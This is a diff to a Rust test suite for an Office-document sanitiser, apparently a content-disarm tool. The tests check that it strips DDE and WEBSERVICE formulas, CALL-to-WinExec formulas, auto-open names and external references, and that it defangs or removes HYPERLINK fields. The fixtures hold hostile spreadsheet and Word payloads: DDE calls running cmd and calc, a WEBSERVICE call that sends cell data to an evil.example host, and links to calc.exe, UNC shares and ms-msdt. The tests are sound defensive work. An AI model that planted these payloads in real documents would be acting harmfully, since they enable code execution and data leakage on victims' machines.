@@ -617,8 +617,9 @@ fn helpers_behave() {
         rels_name("word/document.xml"),
         "word/_rels/document.xml.rels"
     );
-    assert!(is_dde_formula("MSEXCEL|'\\..\\cmd.exe /c calc'!''"));
-    assert!(!is_dde_formula("CONCAT(\"a|b\",A1)"));
+    assert!(auto_run_name("_xlnm.Auto_Open") && auto_run_name("Excel_BuiltIn_Auto_Open"));
+    assert!(auto_run_name("auto_open_x1") && auto_run_name("Auto_Close"));
+    assert!(!auto_run_name("Print_Area") && !auto_run_name("AutoOpenReport"));
     assert_eq!(field_kind(" DDEAUTO c:\\x"), FieldKind::Dde);
     assert_eq!(
         field_kind("INCLUDEPICTURE \"http://x/y.png\""),
@@ -628,5 +629,215 @@ fn helpers_behave() {
         looks_external("file:///c:/x")
             && looks_external("\\\\host\\share")
             && !looks_external("media/a.png")
+    );
+}
+
+fn sheet_filter(part: &str, xml: &str) -> (String, Vec<&'static str>) {
+    let f = filter_part(
+        part,
+        xml.as_bytes(),
+        &HashSet::new(),
+        Flavor::Sheet,
+        LinkMode::Defang,
+        Instant::now() + std::time::Duration::from_secs(5),
+    )
+    .unwrap();
+    (
+        String::from_utf8(f.bytes).unwrap(),
+        f.counts.iter().map(|c| c.0).collect(),
+    )
+}
+
+#[test]
+fn formulas_reaching_outside_lose_their_formula_keep_their_value() {
+    // The issue's sample: a DDE() call (no `|`), plus the functions and references that reach
+    // outside the workbook, and a shared formula whose dependants must go with it.
+    let sheet = r#"<worksheet><sheetData><row r="1"><c r="A1"><f>DDE("cmd","/c calc.exe","A1")</f><v>0</v></c><c r="B1"><f>_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)</f><v>1</v></c><c r="C1"><f>[1]Sheet1!A1</f><v>2</v></c><c r="D1"><f>'\\server\share\[b.xls]S'!A1</f><v>3</v></c><c r="E1"><f>CALL("kernel32","WinExec","JCJ","calc",0)</f><v>4</v></c></row><row r="2"><c r="A2"><f t="shared" si="0" ref="A2:A4">RTD("x",,A1)</f><v>5</v></c><c r="A3"><f t="shared" si="0"/><v>6</v></c><c r="B2"><f t="shared" si="1" ref="B2:B3">SUM(A1:A9)</f><v>7</v></c><c r="B3"><f t="shared" si="1"/><v>8</v></c></row></sheetData></worksheet>"#;
+    let (out, ts) = sheet_filter("xl/worksheets/sheet1.xml", sheet);
+    for bad in [
+        "DDE",
+        "WEBSERVICE",
+        "[1]",
+        "server",
+        "CALL",
+        "RTD",
+        r#"si="0""#,
+    ] {
+        assert!(!out.contains(bad), "{bad}: {out}");
+    }
+    for v in 0..=8 {
+        assert!(out.contains(&format!("<v>{v}</v>")), "{v}: {out}");
+    }
+    assert!(out.contains("SUM(A1:A9)") && out.contains(r#"<f t="shared" si="1"/>"#));
+    assert!(ts.contains(&"ooxml.dde") && ts.contains(&"ooxml.external_formula"));
+}
+
+#[test]
+fn auto_run_names_leave_the_workbook() {
+    let wb = r#"<workbook><definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName><definedName name="Excel_BuiltIn_Auto_Close" hidden="1">Macro1!$A$9</definedName><definedName name="Auto_Open_x">Macro1!$A$1</definedName><definedName name="Totals">Sheet1!$A$1</definedName><definedName name="Feed">WEBSERVICE("http://x.example/")</definedName></definedNames></workbook>"#;
+    let (out, ts) = sheet_filter("xl/workbook.xml", wb);
+    assert!(
+        !out.contains("Auto_") && !out.contains("WEBSERVICE"),
+        "{out}"
+    );
+    assert!(out.contains("Sheet1!$A$1"), "{out}");
+    assert!(ts.contains(&"ooxml.auto_run_name") && ts.contains(&"ooxml.external_formula"));
+    // The re-check sees what the rebuild would have missed.
+    assert!(
+        formula_problem(
+            "xl/workbook.xml",
+            wb.as_bytes(),
+            Instant::now() + std::time::Duration::from_secs(5)
+        )
+        .unwrap()
+        .is_some()
+    );
+    assert!(
+        formula_problem(
+            "xl/workbook.xml",
+            out.as_bytes(),
+            Instant::now() + std::time::Duration::from_secs(5)
+        )
+        .unwrap()
+        .is_none()
+    );
+}
+
+#[test]
+fn hyperlink_fields_follow_the_link_policy_even_split_over_runs() {
+    let instr =
+        |t: &str| format!(r#"<w:r><w:instrText xml:space="preserve">{t}</w:instrText></w:r>"#);
+    let field = |pieces: &[&str], result: &str| {
+        let mut f = r#"<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>"#.to_owned();
+        for p in pieces {
+            f.push_str(&instr(p));
+        }
+        f.push_str(&format!(r#"<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>"#));
+        f
+    };
+    let body = [
+        field(&[" HYPERLINK \"http://www.", "evil.example/a\" \\o \"tip\" "], "split"),
+        field(&[" HYPERLINK \"file:///c:/windows/system32/calc.exe\" "], "local"),
+        field(&[" HYPERLINK \\\\server\\share\\x.exe "], "unc"),
+        field(&[" HYPERLINK \\l \"section2\" "], "bookmark"),
+        field(&[" INCLUDEPICTURE \"http://tracker.example/p.png\" \\d "], "pic"),
+        r#"<w:p><w:fldSimple w:instr=" HYPERLINK &quot;https://evil.example/b&quot; "><w:r><w:t>simple</w:t></w:r></w:fldSimple></w:p>"#.to_owned(),
+    ]
+    .concat();
+    let input = package(&[
+        ("[Content_Types].xml", &types(WORD_MAIN, "")),
+        ("_rels/.rels", &root_rels()),
+        ("word/document.xml", &doc(&body)),
+    ]);
+    let out = run(&input, "links.docx");
+    let threats = out.report.threats();
+    assert!(
+        threats.contains(&"link.rewritten") && threats.contains(&"ooxml.external_link"),
+        "{threats:?}"
+    );
+    let pkg = read(out.output.unwrap().bytes.as_slice());
+    let d = text(&pkg, "word/document.xml");
+    for live in ["&quot;http", "&quot;file:", "\\\\server", "tracker"] {
+        assert!(!d.contains(live), "{live}: {d}");
+    }
+    assert!(d.contains("hxxp://www[.]evil[.]example/a"), "{d}");
+    assert!(d.contains("hxxps://evil[.]example/b"), "{d}");
+    assert!(d.contains("about:blank") && d.contains("section2"), "{d}");
+    for r in ["split", "local", "unc", "bookmark", "pic", "simple"] {
+        assert!(d.contains(r), "{r}: {d}");
+    }
+    // Every HYPERLINK instruction left is inert.
+    let fields = word_fields(
+        "d",
+        d.as_bytes(),
+        Instant::now() + std::time::Duration::from_secs(5),
+    )
+    .unwrap();
+    assert!(fields.iter().all(|f| field_link_ok(f)), "{fields:?}");
+}
+
+#[test]
+fn field_targets_are_found_and_rewritten() {
+    assert_eq!(
+        rewrite_field(
+            r#" HYPERLINK "http://a.example/x" \o "t""#,
+            LinkMode::Defang
+        )
+        .as_deref(),
+        Some(r#" HYPERLINK "hxxp://a[.]example/x" \o "t""#)
+    );
+    assert_eq!(
+        rewrite_field("HYPERLINK https://a.example", LinkMode::Remove).as_deref(),
+        Some("HYPERLINK [link removed]")
+    );
+    assert_eq!(rewrite_field(r#"HYPERLINK \l "x""#, LinkMode::Defang), None);
+    assert_eq!(
+        rewrite_field(r#"HYPERLINK "hxxp://a[.]jp""#, LinkMode::Defang),
+        None
+    );
+    assert_eq!(
+        rewrite_field(r#"HYPERLINK "ms-msdt:/id x""#, LinkMode::Keep).as_deref(),
+        Some(r#"HYPERLINK "about:blank""#)
+    );
+    assert!(!field_link_ok(r#"HYPERLINK "http://a.example""#));
+}
+
+#[test]
+fn binary_workbooks_are_unsupported_not_malformed() {
+    let types = format!(
+        r#"<Types xmlns="{CT_NS}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/></Types>"#
+    );
+    let input = package(&[
+        ("[Content_Types].xml", &types),
+        (
+            "_rels/.rels",
+            &doc_rels(&format!(
+                r#"<Relationship Id="rId1" Type="{RT}/officeDocument" Target="xl/workbook.bin"/>"#
+            )),
+        ),
+        ("xl/workbook.bin", "binary"),
+    ]);
+    let out = run(&input, "a.xlsb");
+    assert_eq!(out.report.verdict, Verdict::Blocked);
+    assert!(
+        out.report.threats().contains(&"format.unsupported"),
+        "{:?}",
+        out.report
+    );
+    assert!(
+        out.report.items[0].reason.contains(".xlsb"),
+        "{:?}",
+        out.report
+    );
+}
+
+#[test]
+fn chart_series_formulas_reaching_outside_go_in_any_document() {
+    let chart = r#"<c:chartSpace xmlns:c="c"><c:ser><c:val><c:numRef><c:f>'C:\x\[b.xlsx]Sheet1'!$A$1:$A$3</c:f><c:numCache><c:pt idx="0"><c:v>5</c:v></c:pt></c:numCache></c:numRef></c:val></c:ser><c:ser><c:val><c:numRef><c:f>Sheet1!$B$1:$B$3</c:f></c:numRef></c:val></c:ser></c:chartSpace>"#;
+    let f = filter_part(
+        "word/charts/chart1.xml",
+        chart.as_bytes(),
+        &HashSet::new(),
+        Flavor::Word,
+        LinkMode::Defang,
+        Instant::now() + std::time::Duration::from_secs(5),
+    )
+    .unwrap();
+    let out = String::from_utf8(f.bytes).unwrap();
+    assert!(
+        !out.contains("b.xlsx") && out.contains("<c:v>5</c:v>"),
+        "{out}"
+    );
+    assert!(out.contains("Sheet1!$B$1:$B$3"), "{out}");
+    let deadline = Instant::now() + std::time::Duration::from_secs(5);
+    assert!(
+        formula_problem("c", chart.as_bytes(), deadline)
+            .unwrap()
+            .is_some()
+    );
+    assert!(
+        formula_problem("c", out.as_bytes(), deadline)
+            .unwrap()
+            .is_none()
     );
 }
